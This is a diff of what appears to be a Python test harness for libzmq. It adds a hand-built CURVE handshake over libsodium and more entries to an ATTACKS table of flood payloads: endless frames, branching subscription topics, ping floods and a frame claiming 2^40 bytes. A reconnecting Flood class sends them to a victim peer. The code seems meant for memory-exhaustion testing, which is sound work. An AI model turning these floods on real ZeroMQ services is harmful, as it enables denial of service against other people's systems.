@@ -1,10 +1,12 @@
-"""A peer of the push channel that keeps to ZMTP 3.0 (ZeroMQ RFC 23, mechanism NULL) for as long as it likes: by hand, on a raw socket.
+"""A peer of the push channel that keeps to ZMTP 3.0 (ZeroMQ RFC 23, mechanism NULL, or RFC 26, CURVE) for as long as it likes: by hand, on a raw socket.
 
 Either side: a publisher that the victim connects to, or a subscriber that connects to the victim. What comes behind the handshake is
 bytes of the test's choice; `ATTACKS` has the shapes that made libzmq grow without bound.
 """
 import contextlib
+import ctypes
 import itertools
+import os
 import socket
 import struct
 import threading
@@ -50,6 +52,61 @@ def shake_hands(peer, kind):
     take_frame(peer)
 
 
+def frames(block):
+    """(flags, body) of each."""
+    at = 0
+    while at < len(block):
+        flags, head = block[at], 9 if block[at] & LONG else 2
+        size = int.from_bytes(block[at + 1:at + head], 'big')
+        yield flags, block[at + head:at + head + size]
+        at += head + size
+
+
+class Sealed:
+    """A CURVE client on a connected socket, with keys of its own; `server`: the other side's public key."""
+
+    def __init__(self, peer, kind, server, public, secret):
+        self.sodium, self.number = ctypes.CDLL('libsodium.so.23'), 0
+        brief, brief_secret = ctypes.create_string_buffer(32), ctypes.create_string_buffer(32)
+        self.sodium.crypto_box_keypair(brief, brief_secret)
+        peer.settimeout(harness.DEADLINE)
+        peer.sendall(GREETING[:12] + b'CURVE' + b'\0' * 47)
+        exactly(peer, 64)
+        number = struct.pack('>Q', 1)
+        peer.sendall(frame(b'\x05HELLO\x01\0' + b'\0' * 72 + brief.raw + number + self.box(b'\0' * 64, b'CurveZMQHELLO---' + number, server, brief_secret), command=True))
+        welcome = take_frame(peer)[1]
+        opened = ctypes.create_string_buffer(128)
+        assert self.sodium.crypto_box_open_easy(opened, welcome[24:], ctypes.c_ulonglong(144), b'WELCOME-' + welcome[8:24], server, brief_secret) == 0
+        theirs, cookie = opened.raw[:32], opened.raw[32:]
+        voucher = os.urandom(16)
+        vouch = voucher + self.box(brief.raw + server, b'VOUCH---' + voucher, theirs, secret)
+        told = public + vouch + b'\x0bSocket-Type' + struct.pack('>I', len(kind)) + kind
+        peer.sendall(frame(b'\x08INITIATE' + cookie + number + self.box(told, b'CurveZMQINITIATE' + number, theirs, brief_secret), command=True))
+        take_frame(peer)
+        self.key = ctypes.create_string_buffer(32)
+        self.sodium.crypto_box_beforenm(self.key, theirs, brief_secret)
+        self.number = 2
+
+    def box(self, text, nonce, theirs, ours):
+        sealed = ctypes.create_string_buffer(len(text) + 16)
+        assert self.sodium.crypto_box_easy(sealed, text, ctypes.c_ulonglong(len(text)), nonce, theirs, ours) == 0
+        return sealed.raw
+
+    def frame(self, flags, body):
+        self.number += 1
+        number, text = struct.pack('>Q', self.number), bytes([flags & MORE | (flags & COMMAND) >> 1]) + body
+        sealed = ctypes.create_string_buffer(len(text) + 16)
+        self.sodium.crypto_box_easy_afternm(sealed, text, ctypes.c_ulonglong(len(text)), b'CurveZMQMESSAGEC' + number, self.key)
+        return frame(b'\x07MESSAGE' + number + sealed.raw)
+
+    def blocks(self, plain):
+        """The same frames, encrypted; some at a time."""
+        for block in plain:
+            inner = frames(block)
+            while some := b''.join(self.frame(*f) for f in itertools.islice(inner, 200)):
+                yield some
+
+
 def parts(body, count):
     """One message that never ends: the same bytes again and again."""
     block = frame(body, more=True) * count
@@ -61,14 +118,27 @@ def one_by_one(body):
     return lambda: itertools.repeat(frame(body, more=True))
 
 
-def subscriptions(width):
-    """Another topic each time. Names do not repeat between connections either."""
+def many(make, count=1000):
+    """Another frame each time, by its number. Numbers do not repeat between connections either."""
     numbers = itertools.count()
 
     def blocks():
         while True:
-            yield b''.join(frame(b'\x01%0*x' % (width, next(numbers))) for _ in range(1000))
+            yield b''.join(make(next(numbers)) for _ in range(count))
     return blocks
+
+
+def topic(width, number):
+    return b'%0*x' % (width, number)
+
+
+def far_apart(number):
+    """Topics in pairs that differ in a byte, as much as bytes can: each makes libzmq's trie have a table of 256."""
+    return struct.pack('>I', number // 2 * 2654435761 % (1 << 32)) + (b'\xff' if number % 2 else b'\0')
+
+
+def again(data):
+    return lambda: itertools.repeat(data)
 
 
 # bytes of a victim's memory for each byte sent: 1, 20, 32; a whole message of many parts forgives what came before, if it is counted badly
@@ -82,17 +152,29 @@ ATTACKS = {
     'parts of no bytes, and an end now and then': lambda: itertools.repeat(frame(b'', more=True) * 30000 + frame(b'w')),
     'messages of no bytes': lambda: itertools.repeat(frame(b'') * 30000),
     'messages of 1 byte': lambda: itertools.repeat(frame(b'w') * 20000),
-    'topics of 7 bytes': subscriptions(6),
-    'topics of 31 bytes': subscriptions(30),
-    'topics of 290 bytes': subscriptions(289),
+    'topics of 7 bytes': many(lambda n: frame(b'\x01' + topic(6, n))),
+    'topics of 31 bytes': many(lambda n: frame(b'\x01' + topic(30, n))),
+    'topics of 290 bytes': many(lambda n: frame(b'\x01' + topic(289, n))),
+    'topics of 240 bytes that have nothing in common': many(lambda n: frame(b'\x01' + topic(10, n)[::-1] * 24)),
+    'topics that branch': many(lambda n: frame(b'\x01' + far_apart(n))),
+    'topics by commands': many(lambda n: frame(b'\x09SUBSCRIBE' + topic(30, n), command=True)),
+    'topics that are taken back': many(lambda n: frame(b'\x01' + topic(30, n)) + frame(b'\x00' + topic(30, n))),
+    'one topic': again(frame(b'\x01web') * 20000),
+    'all topics, again and again': again((frame(b'\x01') + frame(b'\x00')) * 20000),
+    'cancellations': many(lambda n: frame(b'\x00' + topic(6, n))),
+    'pings': again(frame(b'\x04PING\0\0', command=True) * 10000),
+    'whole messages of 30,000 empty parts': again(frame(b'', more=True) * 29999 + frame(b'')),
+    'a frame that never ends': lambda: itertools.chain([bytes([LONG]) + struct.pack('>Q', 1 << 40)], itertools.repeat(b'\x01' * 60000)),
+    'frames of 60 kB that hardly begin': lambda: itertools.chain([bytes([LONG]) + struct.pack('>Q', 60000) + b'\x01']),
 }
 
 
 class Flood:
     """Connects again whenever it is cut off, until it is stopped; `reach()` gives a connected socket."""
 
-    def __init__(self, test, reach, kind, attack):
-        self.reach, self.kind, self.attack = reach, kind, attack
+    def __init__(self, test, reach, kind, attack, keys=None):
+        """keys: the server's public key, and a public and a secret one for this peer; NULL otherwise."""
+        self.reach, self.kind, self.attack, self.keys = reach, kind, attack, keys
         self.sent, self.connections, self.open, self.peer = 0, 0, True, None
         self.thread = threading.Thread(target=self.run, daemon=True)
         self.thread.start()
@@ -101,9 +183,14 @@ class Flood:
     def run(self):
         while self.open:
             with contextlib.suppress(OSError), self.reach() as self.peer:
-                shake_hands(self.peer, self.kind)
+                self.peer.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 10)  # what is sent is mostly read
+                blocks = ATTACKS[self.attack]()
+                if self.keys:
+                    blocks = Sealed(self.peer, self.kind, *self.keys).blocks(blocks)
+                else:
+                    shake_hands(self.peer, self.kind)
                 self.connections += 1
-                for block in ATTACKS[self.attack]():
+                for block in blocks:
                     view = memoryview(block)
                     while view and self.open:
                         done = self.peer.send(view)
